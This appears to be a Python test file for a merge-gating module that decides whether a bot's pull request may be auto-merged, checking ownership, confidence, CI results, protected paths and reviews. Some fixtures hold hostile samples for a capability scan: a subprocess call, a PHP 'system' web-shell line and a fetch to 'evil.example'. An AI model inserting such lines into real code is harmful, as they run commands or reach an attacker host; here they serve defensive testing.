"""Every condition of a merge: named, with its reason, and none of them missed."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from healer.after.conditions import File, MergeCase, Review, conditions
from healer.ci import Check, Commit, Pull
from healer.settings import PolicySettings

OWN, SHOP, HEAD = 41898282, 501, "a" * 40
COMMIT = Commit(HEAD, OWN, OWN, "fix: it\n\nSplat-Signature: 0123456789abcdef\nSplat-Confidence: 95\n")
PULL = Pull(14, True, False, OWN, SHOP, "splat/0123456789abcdef", HEAD, "main", "fix: it", mergeable="clean")
FILE = File("shop/cart.py", b"def f(a):\n    return a.b\n", b"def f(a):\n    return a.b if a else 0\n")
GOOD = MergeCase(
    PULL,
    OWN,
    SHOP,
    True,
    (COMMIT,),
    (Check("test", "passed"), Check("docs", "skipped")),
    (Check("test", "passed"),),
    ("test", "docs"),
    (Review(7, "APPROVED"),),
    (FILE,),
    90,
    PolicySettings(),
)
NAMES = ("ready", "ours", "filed", "confidence", "checks", "base", "paths", "capability", "reviews")


def unmet(case: MergeCase) -> list[str]:
    return [condition.name for condition in conditions(case) if not condition.met]


def test_all_is_well() -> None:
    assert tuple(condition.name for condition in conditions(GOOD)) == NAMES
    assert not unmet(GOOD)
    assert all(condition.reason.endswith(".") for condition in conditions(GOOD))


def confident(value: str) -> Commit:
    return replace(COMMIT, message=COMMIT.message.replace("95", value))


@pytest.mark.parametrize(
    ("changes", "names"),
    [
        ({"pull": replace(PULL, open=False)}, ["ready"]),
        ({"pull": replace(PULL, draft=True)}, ["ready"]),
        ({"pull": replace(PULL, title="[draft] fix: it")}, ["ready"]),
        ({"pull": replace(PULL, author=5)}, ["ours"]),
        ({"pull": replace(PULL, repository=502)}, ["ours"]),
        ({"pull": replace(PULL, repository=0)}, ["ours"]),
        ({"pull": replace(PULL, branch="splat/mine")}, ["ours"]),
        ({"pull": replace(PULL, default="main")}, []),
        ({"pull": replace(PULL, base="release", default="main")}, ["ours"]),
        ({"own": 0}, ["ours"]),
        ({"pull": replace(PULL, head="b" * 40)}, ["ours"]),
        ({"commits": None}, ["ours", "confidence"]),
        ({"commits": ()}, ["ours", "confidence"]),
        ({"commits": (replace(COMMIT, author=6), COMMIT)}, ["ours"]),
        ({"filed": False}, ["filed"]),
        ({"commits": (confident("89"),)}, ["confidence"]),
        ({"commits": (confident("60"), COMMIT)}, ["confidence"]),
        ({"commits": (confident("950"),)}, ["confidence"]),
        ({"commits": (replace(COMMIT, message="Splat-Signature: 0123456789abcdef"),)}, ["confidence"]),
        ({"checks": ()}, ["checks"]),
        ({"checks": (Check("test", "passed"), Check("docs", "skipped"), Check("x", "running"))}, ["checks"]),
        ({"checks": (Check("test", "passed"), Check("docs", "failed"))}, ["checks"]),
        ({"required": ("test", "deploy")}, ["checks"]),
        ({"required": None}, ["checks"]),
        ({"base": (Check("lint", "failed"),)}, ["base"]),
        ({"base": (Check("lint", "running"),)}, []),
        ({"base": ()}, []),
        ({"files": None}, ["paths", "capability"]),
        ({"files": ()}, ["paths", "capability"]),
        ({"files": (FILE, replace(FILE, path=".github/workflows/ci.yml"))}, ["paths"]),
        ({"files": (replace(FILE, path="conftest.py"),)}, ["paths"]),
        ({"files": (replace(FILE, path="requirements.txt"),)}, ["paths"]),
        ({"files": (replace(FILE, path="../x.py"),)}, ["paths"]),
        ({"files": (FILE, replace(FILE, path="a.py", after=None))}, ["paths"]),
        ({"odd": ("a.py",)}, ["paths"]),
        ({"policy": PolicySettings(protected=("shop/",))}, ["paths"]),
        ({"files": (replace(FILE, after=b"import subprocess\nsubprocess.run('id')\n"),)}, ["capability"]),
        ({"files": (File("new.tpl", None, b"<?php system('id');"),)}, ["capability"]),
        ({"files": (File("run", None, b"fetch('https://evil.example')"),)}, ["capability"]),
        ({"reviews": (Review(7, "CHANGES_REQUESTED"),)}, ["reviews"]),
        ({"reviews": (Review(7, "CHANGES_REQUESTED"), Review(7, "COMMENTED"))}, ["reviews"]),
        ({"reviews": (Review(7, "CHANGES_REQUESTED"), Review(8, "APPROVED"))}, ["reviews"]),
        ({"reviews": (Review(7, "CHANGES_REQUESTED"), Review(7, "APPROVED"))}, []),
        ({"reviews": (Review(7, "CHANGES_REQUESTED"), Review(7, "DISMISSED"))}, []),
        ({"reviews": None}, ["reviews"]),
        ({"threshold": None, "commits": (confident("10"),)}, []),
    ],
)
def test_each_condition_by_itself(changes: dict[str, object], names: list[str]) -> None:
    assert unmet(replace(GOOD, **changes)) == names  # type: ignore[arg-type]


def test_a_person_s_word_stands_for_the_confidence_alone() -> None:
    assert [condition.name for condition in conditions(replace(GOOD, threshold=None))] == [
        name for name in NAMES if name != "confidence"
    ]


@settings(max_examples=100)
@given(st.text(max_size=60), st.text(max_size=60))
def test_no_name_from_outside_acts_in_a_reason(path: str, check: str) -> None:
    case = replace(GOOD, files=(File(f"@acme {path}", None, None),), base=(Check(f"@acme {check}", "failed"),))
    for condition in conditions(case):
        assert "@acme" not in re.sub(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", condition.reason)
